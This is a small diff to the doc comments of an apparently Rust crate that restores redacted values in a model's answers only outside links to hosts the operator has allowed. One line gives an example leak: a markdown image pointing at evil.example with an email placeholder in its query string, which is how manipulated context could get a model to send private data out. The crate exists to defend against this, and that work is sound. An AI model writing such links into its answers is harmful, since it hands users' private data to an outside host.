@@ -4,7 +4,7 @@
 //! its context, can write them where a host reads them: `![x](https://evil.example/?q=[[EMAIL_1]])`. The rule:
 //!
 //! - A value is restored in text. Inside a construct that names a host it is restored only if that host is one of
-//!   [`Hosts`], which the operator or the application names. What a message or a document mentions is no permission.
+//!   [`Hosts`], which the operator or the application names. A mention in a message or a document is no permission.
 //! - Arguments of a tool get a value unless they name in clear a host or an address that is not allowed ([`Arguments`]).
 //!
 //! [`TextReader`] reads one text of an answer, [`Transcripts`] what its readers make of all of them. The crate has no
